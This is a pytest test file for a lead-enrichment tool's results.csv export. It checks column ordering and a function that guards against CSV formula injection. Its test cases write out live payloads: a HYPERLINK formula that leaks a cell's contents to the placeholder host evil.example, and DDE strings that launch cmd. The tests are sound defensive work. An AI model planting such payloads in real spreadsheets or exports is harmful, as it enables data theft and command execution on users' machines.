"""results.csv columns (issue 11 §2): input columns first, then the results, no clashes; no
cell a spreadsheet would run as a formula."""

from __future__ import annotations

import pytest

from leadsonar.enrichment.export import RESULT_COLUMNS, header_of, spreadsheet_safe
from leadsonar.enrichment.models import EnrichmentJob


def test_a_json_job_gets_the_api_columns_then_the_results() -> None:
    inputs, results = header_of(EnrichmentJob(input_columns=None))
    assert inputs == ["firstName", "lastName", "website", "companyName"]
    assert results == list(RESULT_COLUMNS)
    assert results == [
        "email",
        "confidence",
        "phone",
        "type",
        "companyPhone",
        "verification",
        "reason",
    ]


def test_an_input_column_with_a_result_name_keeps_its_name_and_the_result_is_prefixed() -> None:
    inputs, results = header_of(EnrichmentJob(input_columns=["Name", "Email", "Phone", "Notes"]))
    assert inputs == ["Name", "Email", "Phone", "Notes"]
    assert results[:3] == ["leadsonar_email", "confidence", "leadsonar_phone"]
    assert len(set(inputs + results)) == len(inputs + results)


# -- formula injection (OWASP "CSV Injection") ---------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "=1+1",
        "@SUM(A1:A2)",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "-1+1",
        "+A1",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_quoted(cell: str) -> None:
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    [
        "+1-415-555-0192",
        "+1 (415) 555-0192",
        "+44 20 7946 0958",
        "-5",
        "-0.25",
        "Sarah",
        "sarah@figma.com",
        "a=b",
        "",
        "Not found: no address at figma.com passed the RCPT probe.",
    ],
)
def test_phone_numbers_numbers_and_plain_text_are_left_alone(cell: str) -> None:
    assert spreadsheet_safe(cell) == cell
